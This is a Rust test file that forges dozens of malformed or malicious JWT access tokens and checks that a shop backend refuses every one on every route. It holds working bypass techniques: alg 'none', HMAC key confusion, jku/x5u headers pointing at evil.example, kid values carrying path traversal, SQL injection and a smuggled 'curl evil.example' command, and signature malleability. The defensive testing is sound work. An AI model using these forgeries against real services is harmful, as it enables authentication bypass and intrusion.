//! Access tokens that must be refused, each with a name.
//!
//! They are the attacks of RFC 8725, of past faults of JWT libraries, and of parsers. Every function refuses them, where a
//! token is needed and where it is not, and none takes long. Many are signed with the key of the tests, so that only the
//! named fault is wrong with them.

#![expect(
    clippy::panic,
    clippy::print_stdout,
    reason = "a test that cannot go on has failed, and one that has tried much says how much"
)]

use std::collections::HashSet;
use std::time::{Duration, Instant};

use axum::Router;
use axum::body::Body;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE, URL_SAFE_NO_PAD};
use http::{HeaderValue, Method, Request, StatusCode, header};
use http_body_util::BodyExt as _;
use ring::signature::{Ed25519KeyPair, KeyPair as _};
use ring::{hkdf, hmac};
use serde_json::{Value, json};
use shared::auth::Signer;
use shared::values::ids::ProductId;
use tests::JWT_SECRET;
use tests::in_process::InProcess;
use tests::person::{PASSWORD, Person};
use tests::support::users::sign_up;
use tower::ServiceExt as _;

fn base64(bytes: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// The key pair that a secret stands for.
fn key_pair(secret: &str) -> Ed25519KeyPair {
    let mut seed = [0; 32];
    let derived = hkdf::Salt::new(hkdf::HKDF_SHA256, b"oms")
        .extract(secret.as_bytes())
        .expand(&[b"access token signing key, Ed25519"], hkdf::HKDF_SHA256)
        .and_then(|key| key.fill(&mut seed));
    assert!(derived.is_ok());
    Ed25519KeyPair::from_seed_unchecked(&seed).unwrap_or_else(|error| panic!("{error}"))
}

/// Makes tokens that are as ours but for what a test changes.
struct Forge {
    ours: Ed25519KeyPair,
    strangers: Ed25519KeyPair,
    kid: String,
    user: String,
    now: i64,
    header: Value,
    claims: Value,
}

/// A part of a token.
fn decoded(part: &str) -> Value {
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).unwrap_or_default()).unwrap_or_default()
}

impl Forge {
    /// From a token that somebody has got by signing in.
    fn new(somebody: &Person) -> Self {
        let token = somebody.token.clone().unwrap_or_default();
        let parts: Vec<Value> = token.split('.').take(2).map(decoded).collect();
        let [header, claims] = parts.as_slice() else { panic!("{token} is no token") };
        let (header, claims) = (header.clone(), claims.clone());
        let signer = Signer::from_secret(JWT_SECRET).unwrap_or_else(|error| panic!("{error}"));
        let ours = key_pair(JWT_SECRET);
        assert_eq!(
            ours.public_key().as_ref(),
            signer.public_key().bytes,
            "the key is derived in another way"
        );
        let strangers = key_pair("another secret, also of 32 bytes or more");
        assert_eq!(header["kid"], signer.public_key().kid, "the token is signed with another key");
        let (kid, user) = (signer.public_key().kid.clone(), somebody.id.clone());
        let now = claims["iat"].as_i64().unwrap_or_default();
        assert_eq!(claims["exp"], now + 900);
        Self { ours, strangers, kid, user, now, header, claims }
    }

    fn header(&self) -> Value {
        self.header.clone()
    }

    /// Claims of an admin: whoever is believed by one of these has won something.
    fn claims(&self) -> Value {
        self.claims.clone()
    }

    fn signed_by(key: &Ed25519KeyPair, head: impl AsRef<[u8]>, claims: impl AsRef<[u8]>) -> String {
        let content = format!("{}.{}", base64(head), base64(claims));
        let signature = key.sign(content.as_bytes());
        format!("{content}.{}", base64(signature))
    }

    /// Signed with our key.
    fn signed(&self, head: impl AsRef<[u8]>, claims: impl AsRef<[u8]>) -> String {
        Self::signed_by(&self.ours, head, claims)
    }

    /// Signed with our key, but for these fields of the header; null takes one away.
    fn with_header(&self, changes: Value) -> String {
        self.signed(changed(self.header(), changes).to_string(), self.claims().to_string())
    }

    /// Signed with our key, but for these claims; null takes one away.
    fn with_claims(&self, changes: Value) -> String {
        self.signed(self.header().to_string(), changed(self.claims(), changes).to_string())
    }

    /// The same, with a claim as it is written.
    fn with_claim_as(&self, name: &str, written: &str) -> String {
        let marked = changed(self.claims(), json!({ name: "<here>" })).to_string();
        self.signed(self.header().to_string(), marked.replace("\"<here>\"", written))
    }

    /// Signed by a stranger, with these fields of the header.
    fn strangers(&self, changes: Value) -> String {
        let head = changed(self.header(), changes).to_string();
        Self::signed_by(&self.strangers, head, self.claims().to_string())
    }

    /// Signed by HMAC with a secret that everybody knows.
    fn by_hmac(&self, name: &str, algorithm: hmac::Algorithm, secret: &[u8]) -> String {
        let head = changed(self.header(), json!({ "alg": name })).to_string();
        let content = format!("{}.{}", base64(head), base64(self.claims().to_string()));
        let tag = hmac::sign(&hmac::Key::new(algorithm, secret), content.as_bytes());
        format!("{content}.{}", base64(tag))
    }

    /// Not signed at all, or with these bytes.
    fn with_signature(&self, alg: &str, signature: &[u8]) -> String {
        let head = changed(self.header(), json!({ "alg": alg })).to_string();
        format!("{}.{}.{}", base64(head), base64(self.claims().to_string()), base64(signature))
    }

    /// One that is good.
    fn good(&self) -> String {
        self.with_claims(json!({}))
    }
}

fn changed(mut object: Value, changes: Value) -> Value {
    if let (Some(object), Value::Object(changes)) = (object.as_object_mut(), changes) {
        for (name, value) in changes {
            if value.is_null() {
                object.remove(&name)
            } else {
                object.insert(name, value)
            };
        }
    }
    object
}

/// An attack: what is wrong, and the values of `Authorization`.
struct Attack {
    name: String,
    values: Vec<Vec<u8>>,
}

#[derive(Default)]
struct Attacks(Vec<Attack>);

impl Attacks {
    fn raw(&mut self, name: impl Into<String>, values: &[&[u8]]) {
        let values = values.iter().map(|value| value.to_vec()).collect();
        self.0.push(Attack { name: name.into(), values });
    }

    fn header(&mut self, name: impl Into<String>, value: impl AsRef<[u8]>) {
        self.raw(name, &[value.as_ref()]);
    }

    fn token(&mut self, name: impl Into<String>, token: impl AsRef<str>) {
        self.header(name, format!("Bearer {}", token.as_ref()));
    }
}

/// Not signed, or by an algorithm that the token chooses (RFC 8725, 2.1 and 3.1).
fn algorithms(forge: &Forge, attacks: &mut Attacks) {
    let public = forge.ours.public_key().as_ref().to_vec();
    let signature = forge.ours.sign(b"anything").as_ref().to_vec();
    for alg in ["none", "None", "NONE", "nOnE", ""] {
        attacks.token(format!("alg {alg:?} without a signature"), forge.with_signature(alg, b""));
        attacks.token(format!("alg {alg:?} with a signature"), forge.with_signature(alg, &signature));
    }
    // SubjectPublicKeyInfo (RFC 8410).
    let spki =
        [&[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00][..], &public].concat();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", STANDARD.encode(&spki));
    let jwk = json!({ "kty": "OKP", "crv": "Ed25519", "x": base64(&public), "kid": forge.kid }).to_string();
    for (form, secret) in [
        ("raw", public.clone()),
        ("DER", spki),
        ("PEM", pem.clone().into_bytes()),
        ("PEM without its last line's end", pem.trim_end().as_bytes().to_vec()),
        ("base64", STANDARD.encode(&public).into_bytes()),
        ("base64url", base64(&public).into_bytes()),
        ("a JWK", jwk.into_bytes()),
        ("nothing", Vec::new()),
        ("the kid", forge.kid.clone().into_bytes()),
    ] {
        let token = forge.by_hmac("HS256", hmac::HMAC_SHA256, &secret);
        attacks.token(format!("HS256 with the public key as {form}"), token);
    }
    attacks.token("HS384 with the public key", forge.by_hmac("HS384", hmac::HMAC_SHA384, &public));
    attacks.token("HS512 with the public key", forge.by_hmac("HS512", hmac::HMAC_SHA512, &public));
    attacks.token("HMAC under the name EdDSA", forge.by_hmac("EdDSA", hmac::HMAC_SHA512, &public));
    for alg in ["RS256", "RS512", "PS256", "ES256", "ES384", "ES256K", "Ed448", "eddsa", "EDDSA", "HS256"] {
        attacks.token(format!("our signature under the alg {alg}"), forge.with_header(json!({ "alg": alg })));
    }
    for (name, alg) in [("a list", json!(["EdDSA"])), ("a number", json!(1)), ("an object", json!({}))] {
        attacks.token(format!("alg as {name}"), forge.with_header(json!({ "alg": alg })));
    }
    attacks.token("no alg", forge.with_header(json!({ "alg": null })));
}

/// Keys that the token brings along, or asks for by name (RFC 8725, 3.10).
fn keys(forge: &Forge, attacks: &mut Attacks) {
    let theirs = base64(forge.strangers.public_key().as_ref());
    let jwk = json!({ "kty": "OKP", "crv": "Ed25519", "x": theirs, "kid": "mine" });
    for (name, header) in [
        ("jwk", json!({ "jwk": jwk, "kid": "mine" })),
        ("jwk under our kid", json!({ "jwk": jwk, "kid": forge.kid })),
        ("jku", json!({ "jku": "https://evil.example/jwks.json", "kid": "mine" })),
        ("jku to this machine", json!({ "jku": "http://127.0.0.1:1/", "kid": forge.kid })),
        ("jku to a file", json!({ "jku": "file:///etc/passwd" })),
        ("x5u", json!({ "x5u": "https://evil.example/cert.pem", "kid": "mine" })),
        ("x5c", json!({ "x5c": ["MIIB"], "x5t": "AAAA" })),
    ] {
        attacks.token(format!("a stranger's key by {name}"), forge.strangers(header));
    }
    attacks.token("a stranger's key under our kid", forge.strangers(json!({})));
    let stranger =
        Signer::from_secret("another secret, also of 32 bytes or more").map(|it| it.public_key().kid.clone());
    attacks.token(
        "a key that is no longer ours",
        forge.strangers(json!({ "kid": stranger.unwrap_or_default() })),
    );
    for (name, kid) in [
        ("a path", json!("../../../../dev/null")),
        ("a path of Windows", json!("..\\..\\nul")),
        ("an absolute path", json!("/dev/null")),
        ("SQL", json!("x' UNION SELECT 'AA'; --")),
        ("an operator", json!({ "$ne": null })),
        ("an operator in text", json!("{\"$gt\": \"\"}")),
        ("a regular expression", json!(".*")),
        ("a command", json!("key; curl evil.example")),
        ("a NUL", json!(format!("{}\0", forge.kid))),
        ("a line", json!(format!("{}\r\nx-role: admin", forge.kid))),
        ("a URL", json!("https://evil.example/key")),
        ("nothing", json!("")),
        ("long text", json!("k".repeat(1_000))),
        ("our kid with a space", json!(format!(" {}", forge.kid))),
        ("our kid in capitals", json!(forge.kid.to_uppercase())),
        ("part of our kid", json!(forge.kid[..8])),
        ("a list", json!([forge.kid])),
        ("a number", json!(0)),
        ("true", json!(true)),
    ] {
        attacks.token(format!("kid is {name}"), forge.with_header(json!({ "kid": kid })));
    }
    attacks.token("no kid", forge.with_header(json!({ "kid": null })));
}

/// Headers that say what the token is, and what must be understood (RFC 8725, 3.11; RFC 7515, 4.1.11).
fn kinds(forge: &Forge, attacks: &mut Attacks) {
    for (name, typ) in [
        ("absent", json!(null)),
        ("JWT", json!("JWT")),
        ("an ID token's", json!("id_token+jwt")),
        ("empty", json!("")),
        ("a list", json!(["at+jwt"])),
        ("longer", json!("at+jwt2")),
    ] {
        attacks.token(format!("typ is {name}"), forge.with_header(json!({ "typ": typ })));
    }
    for (name, header) in [
        ("what nobody knows", json!({ "crit": ["exp2"], "exp2": 1 })),
        ("nothing", json!({ "crit": [] })),
        ("what is no list", json!({ "crit": "exp" })),
        ("b64", json!({ "crit": ["b64"], "b64": true })),
    ] {
        attacks.token(format!("crit has {name}"), forge.with_header(header));
    }
    // The payload as it is (RFC 7797).
    let head = base64(changed(forge.header(), json!({ "b64": false, "crit": ["b64"] })).to_string());
    let content = format!("{head}.{}", forge.claims());
    let signature = base64(forge.ours.sign(content.as_bytes()));
    attacks.token("a payload that is not encoded", format!("{content}.{signature}"));
    // A stored block (RFC 1951) with the claims.
    let claims = forge.claims().to_string().into_bytes();
    let length = u16::try_from(claims.len()).unwrap_or(u16::MAX);
    let deflated = [&[1][..], &length.to_le_bytes(), &(!length).to_le_bytes(), &claims].concat();
    let head = changed(forge.header(), json!({ "zip": "DEF" })).to_string();
    attacks.token("a compressed payload", forge.signed(head, deflated));
    let head = changed(forge.header(), json!({ "cty": "JWT" })).to_string();
    attacks.token("a token in a token", forge.signed(head, forge.good()));
    let jwe = json!({ "alg": "dir", "enc": "A128GCM", "typ": "at+jwt", "kid": forge.kid }).to_string();
    attacks.token("an encrypted token", format!("{}..{}.AAAA.AAAA", base64(jwe), base64([0; 12])));
    let flattened = json!({ "protected": base64(forge.header().to_string()),
        "payload": base64(forge.claims().to_string()), "signature": "AA" });
    attacks.token("a token as JSON", flattened.to_string());
}

/// Claims that are wrong, or of another type (RFC 8725, 3.8 to 3.10).
fn claims(forge: &Forge, attacks: &mut Attacks) {
    let now = forge.now;
    for (name, changes) in [
        ("exp is past", json!({ "iat": now - 901, "exp": now - 1 })),
        ("exp is now", json!({ "iat": now - 900, "exp": now })),
        ("no exp", json!({ "exp": null })),
        ("exp is text", json!({ "exp": (now + 900).to_string() })),
        ("exp is a list", json!({ "exp": [now + 900] })),
        ("exp is an object", json!({ "exp": {} })),
        ("exp is true", json!({ "exp": true })),
        ("exp is negative", json!({ "exp": -1 })),
        ("exp is beyond all lifetimes", json!({ "exp": i64::MAX })),
        ("nbf is to come", json!({ "nbf": now + 3_600 })),
        ("nbf is text", json!({ "nbf": "0" })),
        ("iat is to come", json!({ "iat": now + 3_600, "exp": now + 4_500 })),
        ("no iat", json!({ "iat": null })),
        ("iat is text", json!({ "iat": now.to_string() })),
        ("another aud", json!({ "aud": "oms-admin" })),
        ("aud begins like ours", json!({ "aud": "oms" })),
        ("aud is longer than ours", json!({ "aud": "oms-api-2" })),
        ("no aud", json!({ "aud": null })),
        ("aud is a list of others", json!({ "aud": ["a", "b"] })),
        ("aud is an empty list", json!({ "aud": [] })),
        ("aud is an object", json!({ "aud": { "oms-api": true } })),
        ("another iss", json!({ "iss": "https://evil.example" })),
        ("iss in capitals", json!({ "iss": "OMS" })),
        ("no iss", json!({ "iss": null })),
        ("iss is a list", json!({ "iss": ["oms"] })),
        ("no sub", json!({ "sub": null })),
        ("sub is empty", json!({ "sub": "" })),
        ("sub is a product", json!({ "sub": ProductId::new().to_string() })),
        ("sub is an operator", json!({ "sub": { "$ne": null } })),
        ("sub is a list", json!({ "sub": [forge.user] })),
        ("sub is a number", json!({ "sub": 1 })),
        ("sub in capitals", json!({ "sub": forge.user.to_uppercase() })),
        ("sub with a space", json!({ "sub": format!("{} ", forge.user) })),
        ("sub is the system", json!({ "sub": "system" })),
        ("no role", json!({ "role": null })),
        ("an unknown role", json!({ "role": "root" })),
        ("the role system", json!({ "role": "system" })),
        ("role in capitals", json!({ "role": "ADMIN" })),
        ("role is a list", json!({ "role": ["admin"] })),
        ("role is an object", json!({ "role": { "admin": null } })),
        ("role is a number", json!({ "role": 2 })),
        ("no jti", json!({ "jti": null })),
        ("jti is a number", json!({ "jti": 1 })),
    ] {
        attacks.token(name, forge.with_claims(changes));
    }
    for (name, claim, written) in [
        ("exp is null", "exp", "null".to_owned()),
        ("exp is a fraction", "exp", format!("{}.5", now + 900)),
        ("exp is written with an exponent", "exp", "4e9".to_owned()),
        ("exp is larger than 64 bits", "exp", "99999999999999999999999".to_owned()),
        ("exp is larger than any float", "exp", "1e400".to_owned()),
        ("exp is no number of JSON", "exp", "NaN".to_owned()),
        ("iat is null", "iat", "null".to_owned()),
        ("sub is null", "sub", "null".to_owned()),
        ("role stands twice", "role", "\"customer\",\"role\":\"admin\"".to_owned()),
        ("exp stands twice", "exp", format!("1,\"exp\":{}", now + 900)),
        ("sub stands twice", "sub", format!("\"user_x\",\"sub\":\"{}\"", forge.user)),
        ("role stands twice, once escaped", "role", "\"customer\",\"r\\u006fle\":\"admin\"".to_owned()),
        ("a comment in the claims", "role", "\"admin\"/**/".to_owned()),
    ] {
        attacks.token(name, forge.with_claim_as(claim, &written));
    }
    let head = forge.header().to_string();
    let good = forge.claims().to_string();
    for (name, payload) in [
        ("empty", Vec::new()),
        ("null", b"null".to_vec()),
        ("a list of the claims", format!("[{good}]").into_bytes()),
        (
            "the claims' values alone",
            format!("[\"oms\",\"oms-api\",\"{}\",\"admin\",{now},{},\"x\"]", forge.user, now + 900)
                .into_bytes(),
        ),
        ("text", b"\"admin\"".to_vec()),
        ("two objects", format!("{good}{good}").into_bytes()),
        ("cut off", good.as_bytes()[..good.len() - 1].to_vec()),
        ("with a byte order mark", [b"\xef\xbb\xbf", good.as_bytes()].concat()),
        (
            "not UTF-8",
            good.replacen("oms-api", "\u{1}", 1)
                .into_bytes()
                .iter()
                .map(|&it| if it == 1 { 0xff } else { it })
                .collect(),
        ),
        ("UTF-16", good.encode_utf16().flat_map(u16::to_le_bytes).collect()),
        ("nested deeply", format!("{}{}", "[".repeat(600), "]".repeat(600)).into_bytes()),
    ] {
        attacks.token(format!("a payload that is {name}"), forge.signed(&head, payload));
    }
    let claims = forge.claims().to_string();
    for (name, head) in [
        ("alg twice", head.replacen('{', "{\"alg\":\"none\",", 1)),
        ("alg twice, the other one last", head.replace('}', ",\"alg\":\"none\"}")),
        ("kid twice", head.replacen('{', "{\"kid\":\"x\",", 1)),
        ("typ twice", head.replacen('{', "{\"typ\":\"JWT\",", 1)),
        ("a list", format!("[{head}]")),
        ("its values alone", format!("[\"EdDSA\",\"at+jwt\",\"{}\"]", forge.kid)),
        ("text", "\"EdDSA\"".to_owned()),
        ("nothing", String::new()),
    ] {
        attacks.token(format!("a header that is or has {name}"), forge.signed(head, &claims));
    }
}

/// L, the order of the curve's base point (RFC 8032, section 5.1), in little endian.
const L: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14, 0, 0, 0,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
];

/// Signatures that are none of this content, or are one in another form.
fn signatures(forge: &Forge, attacks: &mut Attacks) {
    let good = forge.good();
    let (content, encoded) = good.rsplit_once('.').unwrap_or_default();
    let signature = URL_SAFE_NO_PAD.decode(encoded).unwrap_or_default();
    let mut with = |name: &str, signature: &[u8]| {
        attacks.token(format!("a signature that is {name}"), format!("{content}.{}", base64(signature)));
    };
    let mut malleable = signature.clone();
    let mut carry = 0;
    for (byte, order) in malleable[32..].iter_mut().zip(L) {
        let sum = u16::from(*byte) + u16::from(order) + carry;
        (*byte, carry) = (sum.to_le_bytes()[0], sum >> 8);
    }
    with("the same with S + L", &malleable);
    let mut high = signature.clone();
    high[63] |= 0xe0;
    with("the same with the highest bits of S", &high);
    let identity = [&[1][..], &[0; 63]].concat();
    with("of the neutral point, with S = 0", &identity);
    // A point of order 8, and the neutral point in a form that is not canonical.
    let order_8 = "c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a";
    let order_8: Vec<u8> =
        (0..32).filter_map(|at| u8::from_str_radix(&order_8[2 * at..2 * at + 2], 16).ok()).collect();
    with("of a point of small order", &[&order_8[..], &[0; 32]].concat());
    with("of a point that is not canonical", &[&[0xee][..], &[0xff; 30], &[0x7f], &[0; 32]].concat());
    with("all zeros", &[0; 64]);
    with("all ones", &[0xff; 64]);
    with("too short", &signature[..63]);
    with("too long", &[&signature[..], &[0]].concat());
    with("half of one", &signature[..32]);
    with("two of them", &[&signature[..], &signature].concat());
    with("turned round", &signature.iter().rev().copied().collect::<Vec<_>>());
    with("with its halves swapped", &[&signature[32..], &signature[..32]].concat());
    with("of other content", forge.ours.sign(b"other content").as_ref());
    with("of the claims alone", forge.ours.sign(forge.claims().to_string().as_bytes()).as_ref());
    with("of the content and a dot", forge.ours.sign(format!("{content}.").as_bytes()).as_ref());
    for bit in [0, 255, 511] {
        let mut flipped = signature.clone();
        flipped[bit / 8] ^= 1 << (bit % 8);
        with(&format!("ours but for bit {bit}"), &flipped);
    }
    // The last of 86 letters carries two bits of the signature and four that are nothing.
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let last = alphabet.find(&good[good.len() - 1..]).unwrap_or_default();
    for (name, other) in [("one", last ^ 1), ("another", last ^ 8)] {
        let letter = &alphabet[other..=other];
        attacks.token(
            format!("{name} of the bits of the encoding that are nothing"),
            format!("{}{letter}", &good[..good.len() - 1]),
        );
    }
    let as_customer = forge.with_claims(json!({ "role": "customer" }));
    let (_, customers) = as_customer.rsplit_once('.').unwrap_or_default();
    attacks.token("the signature of another token of ours", format!("{content}.{customers}"));
}

/// Texts that are no token, or not in its one form.
fn forms(forge: &Forge, attacks: &mut Attacks) {
    let good = forge.good();
    let parts: Vec<&str> = good.split('.').collect();
    let [head, claims, signature] = parts[..] else { panic!("{good}") };
    let standard = |part: &str| part.replace('-', "+").replace('_', "/");
    // A text whose base64 differs between the two alphabets.
    let odd = changed(forge.claims(), json!({ "jti": "~~~???>>>~~~???>>>~~~" }));
    let odd = forge.signed(forge.header().to_string(), odd.to_string());
    assert_ne!(odd, standard(&odd));
    for (name, token) in [
        ("cut before its first dot", head.to_owned()),
        ("cut after its first dot", format!("{head}.")),
        ("cut before its second dot", format!("{head}.{claims}")),
        ("cut after its second dot", format!("{head}.{claims}.")),
        ("cut in its claims", format!("{head}.{}", &claims[..claims.len() / 2])),
        ("without its last letter", good[..good.len() - 1].to_owned()),
        ("without its first letter", good[1..].to_owned()),
        ("without a header", format!(".{claims}.{signature}")),
        ("without claims", format!("{head}..{signature}")),
        ("dots alone", "..".to_owned()),
        ("a fourth part", format!("{good}.{signature}")),
        ("an empty fourth part", format!("{good}.")),
        ("a dot before it", format!(".{good}")),
        ("its parts swapped", format!("{claims}.{head}.{signature}")),
        ("signature and claims swapped", format!("{head}.{signature}.{claims}")),
        ("padding at the end", format!("{good}==")),
        (
            "padding of its claims",
            format!("{head}.{}.{signature}", URL_SAFE.encode(forge.claims().to_string()) + "="),
        ),
        ("the other alphabet of base64", standard(&odd)),
        ("in lower case", good.to_lowercase()),
        ("in quotes", format!("\"{good}\"")),
        ("in percent-encoding", good.replace('.', "%2E")),
        ("twice, with a comma", format!("{good},{good}")),
        ("twice, with a space", format!("{good} {good}")),
        ("a space in it", format!("{head}. {claims}.{signature}")),
        ("a tab in it", format!("{head}.{claims}.\t{signature}")),
        ("a letter more than base64 has", format!("{head}.{claims}!.{signature}")),
        ("a NUL's name", format!("{good}%00")),
        ("words", "null".to_owned()),
        ("short parts", "a.b.c".to_owned()),
        ("ten thousand dots", ".".repeat(10_000)),
        ("3,000 letters more", format!("{good}{}", "A".repeat(3_000))),
        ("a megabyte of letters", "A".repeat(1 << 20)),
        ("a megabyte of dots", ".".repeat(1 << 20)),
        ("a header of a megabyte", format!("{}.{claims}.{signature}", "e30".repeat(350_000))),
        ("a signature of a megabyte", format!("{head}.{claims}.{}", "A".repeat(1 << 20))),
    ] {
        attacks.token(format!("a token: {name}"), token);
    }
    let fill = "x".repeat(1 << 20);
    attacks.token("a megabyte of claims, well signed", forge.with_claims(json!({ "more": fill })));
    for (name, value) in [
        ("empty", String::new()),
        ("the scheme alone", "Bearer".to_owned()),
        ("the scheme and a space", "Bearer ".to_owned()),
        ("the token alone", good.clone()),
        ("no space", format!("Bearer{good}")),
        ("two spaces", format!("Bearer  {good}")),
        ("a tab for a space", format!("Bearer\t{good}")),
        ("a space first", format!(" Bearer {good}")),
        ("a colon", format!("Bearer: {good}")),
        ("an equals sign", format!("Bearer={good}")),
        ("Basic", format!("Basic {good}")),
        ("Basic with a password", "Basic YWRtaW46YWRtaW4=".to_owned()),
        ("Token", format!("Token {good}")),
        ("JWT", format!("JWT {good}")),
        ("DPoP", format!("DPoP {good}")),
        ("Bearer twice", format!("Bearer Bearer {good}")),
        ("two values in one", format!("Bearer {good}, Bearer {good}")),
    ] {
        attacks.header(format!("the header: {name}"), value);
    }
    attacks.header("the header: not UTF-8", b"Bearer \xff\xfe");
    attacks.header("the header: not ASCII", "Bearer ☕");
    attacks.header("the header: a byte after the token", [b"Bearer ", good.as_bytes(), b"\xff"].concat());
    let bearer = format!("Bearer {good}");
    attacks.raw("two headers: good and bad", &[bearer.as_bytes(), b"Bearer x"]);
    attacks.raw("two headers: bad and good", &[b"Bearer x", bearer.as_bytes()]);
    attacks.raw("two headers: the same", &[bearer.as_bytes(), bearer.as_bytes()]);
    attacks.raw("two headers: good and empty", &[bearer.as_bytes(), b""]);
}

/// All of them.
fn all(forge: &Forge) -> Vec<Attack> {
    let mut attacks = Attacks::default();
    algorithms(forge, &mut attacks);
    keys(forge, &mut attacks);
    kinds(forge, &mut attacks);
    claims(forge, &mut attacks);
    signatures(forge, &mut attacks);
    forms(forge, &mut attacks);
    let Attacks(attacks) = attacks;
    let names: HashSet<&str> = attacks.iter().map(|attack| attack.name.as_str()).collect();
    assert_eq!(names.len(), attacks.len(), "two attacks of one name");
    for (place, attack) in attacks.iter().enumerate() {
        let same = attacks[..place].iter().find(|other| other.values == attack.values);
        assert!(same.is_none(), "{} is the same as {}", attack.name, same.map_or("", |it| &it.name));
    }
    attacks
}

/// Routes of each kind: of every function, where a token is needed and where it is not, that read and that write.
fn routes(user: &str, email: &str) -> Vec<(Method, String, Option<Value>)> {
    vec![
        (Method::GET, format!("/users/{user}"), None),
        (Method::DELETE, format!("/users/{user}"), None),
        (Method::POST, "/users".to_owned(), Some(sign_up("sneaky@example.com"))),
        (Method::POST, "/auth".to_owned(), Some(json!({ "email": email, "password": PASSWORD }))),
        (Method::GET, "/orders".to_owned(), None),
        (Method::GET, "/orders/consistency".to_owned(), None),
        (Method::POST, "/orders".to_owned(), Some(json!({}))),
        (Method::GET, "/products".to_owned(), None),
        (Method::GET, format!("/products/{}", ProductId::new()), None),
        (Method::POST, "/products".to_owned(), Some(json!({}))),
    ]
}

async fn ask(
    router: &Router,
    (method, path, body): &(Method, String, Option<Value>),
    values: &[Vec<u8>],
) -> (StatusCode, Value, Option<HeaderValue>) {
    let mut request =
        Request::builder().method(method).uri(path).header(header::CONTENT_TYPE, "application/json");
    for value in values {
        request = request.header(header::AUTHORIZATION, &value[..]);
    }
    let body = body.as_ref().map(Value::to_string).unwrap_or_default();
    let request = request.body(Body::from(body)).unwrap_or_else(|error| panic!("{error}"));
    let answer = router.clone().oneshot(request).await.unwrap_or_else(|never| match never {});
    let (head, body) = answer.into_parts();
    let body = body.collect().await.map(|body| body.to_bytes()).unwrap_or_default();
    let challenge = head.headers.get(header::WWW_AUTHENTICATE).cloned();
    (head.status, serde_json::from_slice(&body).unwrap_or_default(), challenge)
}

/// The best of several times: what it takes when nothing else is in the way.
async fn time(shop: &InProcess, route: &(Method, String, Option<Value>), values: &[Vec<u8>]) -> Duration {
    let router = shop.backend.router();
    let mut best = Duration::MAX;
    for _ in 0..3 {
        let started = Instant::now();
        ask(&router, route, values).await;
        best = best.min(started.elapsed());
    }
    best
}

#[tokio::test]
async fn every_attack_by_a_token_is_refused_on_every_kind_of_route() {
    let shop = InProcess::open().await;
    let admin = shop.admin();
    let forge = Forge::new(&admin);
    let (router, routes) = (shop.backend.router(), routes(&admin.id, &admin.email));
    let good = vec![format!("Bearer {}", forge.good()).into_bytes()];
    // What is not changed is believed: else nothing would be known of what is.
    let own = (Method::GET, format!("/users/{}", admin.id), None);
    assert_eq!(ask(&router, &own, &good).await.0, StatusCode::OK);
    let baseline = time(&shop, &own, &good).await;

    let attacks = all(&forge);
    let (mut got_in, mut slowest) = (Vec::new(), (Duration::ZERO, ""));
    for Attack { name, values } in &attacks {
        for route in &routes {
            let (status, body, challenge) = ask(&router, route, values).await;
            let refused = status == StatusCode::UNAUTHORIZED
                && body["type"] == "/problems/unauthenticated"
                && challenge.is_some_and(|it| it == "Bearer");
            if !refused {
                got_in.push(format!("{name}: {} {} answered {status}", route.0, route.1));
            }
            // A token is a secret, a bad one too.
            let told = body.to_string();
            assert!(
                !values.iter().any(|value| value.len() > 40
                    && told.as_bytes().windows(40).any(|it| it == &value[value.len() - 40..])),
                "{name}: {told}"
            );
        }
        slowest = slowest.max((time(&shop, &own, values).await, name));
    }
    assert!(
        got_in.is_empty(),
        "{} of {} attacks got in:\n{}",
        got_in.len(),
        attacks.len(),
        got_in.join("\n")
    );

    // Nothing of it had an effect, and a good token is still good.
    assert_eq!(ask(&router, &own, &good).await.0, StatusCode::OK);
    shop.anyone().post("/users", sign_up("sneaky@example.com")).await.expect(201);
    println!(
        "{} attacks on {} routes, all refused; the slowest ({}) took {:.1} times what a good token takes",
        attacks.len(),
        routes.len(),
        slowest.1,
        slowest.0.as_secs_f64() / baseline.as_secs_f64(),
    );
    assert!(attacks.len() >= 60);
}

#[tokio::test]
async fn a_token_in_the_query_or_in_a_cookie_or_in_the_body_is_none() {
    let shop = InProcess::open().await;
    let (anyone, token) = (shop.anyone(), Forge::new(&shop.admin()).good());
    for name in ["access_token", "token", "authorization", "bearer", "jwt"] {
        let query = format!("{name}={token}");
        anyone.get(&format!("/orders?{query}")).await.problem(401, "unauthenticated");
        anyone.get(&format!("/users?{query}")).await.problem(401, "unauthenticated");
        anyone.get(&format!("/products?{query}")).await.problem(400, "invalid-query");
        for header in
            ["cookie", "x-access-token", "proxy-authorization", "x-authorization", "oms-authorization"]
        {
            let value = if header == "cookie" { query.clone() } else { format!("Bearer {token}") };
            let request = anyone.request(Method::GET, "/orders").header(header, value);
            anyone.answer(request).await.problem(401, "unauthenticated");
        }
    }
    let body = json!({ "access_token": token, "items": [] });
    anyone.post("/orders", body).await.problem(401, "unauthenticated");
}
